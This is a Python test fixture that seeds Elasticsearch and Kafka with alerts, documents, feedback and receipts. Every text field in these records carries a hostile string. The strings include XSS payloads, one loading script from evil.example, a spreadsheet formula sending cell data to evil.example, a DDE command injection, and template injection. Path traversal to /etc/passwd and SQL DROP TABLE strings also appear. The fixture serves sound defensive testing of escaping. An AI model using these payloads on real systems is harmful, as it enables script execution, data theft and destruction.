"""Texts that would rather be something else, in every field of documents, alerts, receipts and deeds that takes one."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

from msgspec.structs import replace

from streams.elastic import client
from streams.endpoints import resolve
from streams.kafka import Outgoing, Producer, ensure_topics
from streams.records import (
    Acknowledgement,
    AlertEvent,
    Condition,
    Document,
    Mark,
    Receipt,
    RuleChange,
    Silence,
    digest,
    encode,
)  # fmt: skip
from streams.settings import Settings
from streams.topics import ALERTS, FEEDBACK, RECEIPTS
from tests.opinions import document, entity, judged, put
from tests.ringing import event, evidence

CALL = "alert(document.domain)"
CORPUS = (
    f"<img src=x onerror={CALL}>",
    f'"><script>{CALL}</script>',
    f"<svg/onload={CALL}><style>*{{display:none}}</style>",
    f"</textarea></title><script src=//evil.example/x.js></script>'-{CALL}-'",
    f"javascript:{CALL}//`${{{CALL}}}`",
    f"{{{{constructor.constructor('{CALL}')()}}}} {{count}} {{time}} one|many",
    '"}],"hits":{"total":{"value":9}},"x":[{"y":"\\u003cscript\\u003e\\',
    "=HYPERLINK(\"http://evil.example/?\"&A1);@SUM(1+1)*cmd|' /C calc'!A0\t+1",
    "a\u202egnp.exe\u2066 safe\u2069 \u200fend\u0007\u0000\u001b[31mred\r\nSet-Cookie: a=b",
    "W" * 180,
    "危" * 120,
    "🚨𠮷" * 40,
    "a\u0301\u0301\u0301\u0301\u0301\u0301" * 20,
    "null",
    "undefined",
    "NaN",
    "[object Object]",
    "__proto__",
    "constructor",
    "../../../etc/passwd%00%2e%2e/?q=1&a=#/alerts",
    "&lt;b&gt;already escaped&amp;amp;",
    "*[system:kafka] x OR 1=1; DROP TABLE alerts;--",
)
URLS = (f"javascript:{CALL}", f"data:text/html,<script>{CALL}</script>", "//evil.example/x", "https://a@evil.example/")


def hostile_document(number: int, text: str, now: datetime) -> Document:
    """One document that says it in its title, body, source, author, company and labels."""
    body = " \n".join([text, "said again:", text, CORPUS[0]])
    company = entity(f"x{number}", text[:200], matched=text[:100])
    other = entity(text[:60].replace("\x00", ""), text[:200], matched=text[:100], where="text")
    return document(
        number, body, now - timedelta(minutes=7 * number + 3), title=text, source=text[:100], author=text[:100],
        url=URLS[number % len(URLS)], native_id=text[:200], entities=(company, other),
        lang="zh" if number % 3 else "en",
        judgement=replace(judged(topic=text[:60], risk=text[:60]), model=text[:60], version=text[:60]),
        masked={"phone": number},
    )  # fmt: skip


def hostile_alert(number: int, text: str, now: datetime) -> list[AlertEvent]:
    """An alert that rings, with every text of its own."""
    id_, at, short = digest("hostile", str(number)), now - timedelta(minutes=3 * number + 2), text[:200]
    story = evidence(
        number, document=digest("invented", str(number)), headline=text, url=URLS[number % len(URLS)], source=short,
        risk=short[:60], highlights=((0, 3), (2, 9), (50, 4000)), collected_at=at, share=0.4,
        first_seen=at - timedelta(minutes=9), last_seen=at,
    )  # fmt: skip
    fields: dict[str, Any] = {
        "alert": id_, "id": f"{id_}.0", "at": at, "since": at - timedelta(minutes=20), "rule": short,
        "rule_hash": short,
        "subject": f"entity:x{number}" if number % 2 else f"entity:{short[:100]}", "name": text, "unit": short,
        "evidence": (story, story), "models": (short, short), "labels": {short[:60]: short}, "reason": short,
        "annotations": {"runbook_en": text, "summary_zh": text, "summary_en": text, short[:60]: URLS[0]},
        "risks": {short[:60]: 3, "fraud": 1}, "kind": "surge" if number % 3 else short[:60],
        "conditions": (
            Condition(type=short, holds=bool(number % 2), why=short, observed=1.0, unit=short, window_seconds=60),
        ),
        "severity": ("info", "warning", "critical")[number % 3],
    }  # fmt: skip
    began = event(**fields)
    return [began, replace(began, id=f"{id_}.1", sequence=1, state="updated", reason="doubled")]


def records(now: datetime) -> list[Outgoing]:
    """Alerts, what people did about them, and what receivers answered."""
    found: list[Outgoing] = []
    for number, text in enumerate(CORPUS):
        events, person = hostile_alert(number, text, now), text[:100]
        id_, reason = events[0].alert, text[:500]
        deeds: list[Any] = [
            Acknowledgement(id=digest("a", id_), alert=id_, author=person, at=now, reason=reason),
            Mark(id=digest("m", id_), alert=id_, right=bool(number % 2), author=person, at=now, reason=reason),
            Silence(id=digest("s", id_), match={"rule": (text[:200],)}, author=person, at=now, reason=reason,
                    until=now + timedelta(hours=3)),
            RuleChange(id=digest("r", id_), file=text[:200], now="0123", author=person, at=now, reason=reason),
        ]  # fmt: skip
        answer = Receipt(
            notification=digest("n", id_), event=events[0].id, receiver=text[:200], attempt=1, at=now,
            outcome="refused", status=400, reason=text[:200], channel=text[:60], code=text[:60], meaning=reason,
            fix=reason,
        )  # fmt: skip
        found += [Outgoing(ALERTS, encode(each), id_.encode()) for each in events]
        found += [Outgoing(FEEDBACK, encode(each), each.id.encode()) for each in deeds]
        found.append(Outgoing(RECEIPTS, encode(answer), answer.event.encode()))
    return found


async def fill(settings: Settings) -> None:
    """Write all of it as the stages would."""
    now = datetime.now(UTC)
    at = resolve(settings)
    elastic = client(settings, at.elasticsearch)
    try:
        await put(elastic, settings, [hostile_document(number, text, now) for number, text in enumerate(CORPUS)])
    finally:
        await elastic.close()
    await ensure_topics(settings, at.kafka)
    producer = Producer(settings, at.kafka)
    await producer.send_all(records(now))
    await producer.stop()
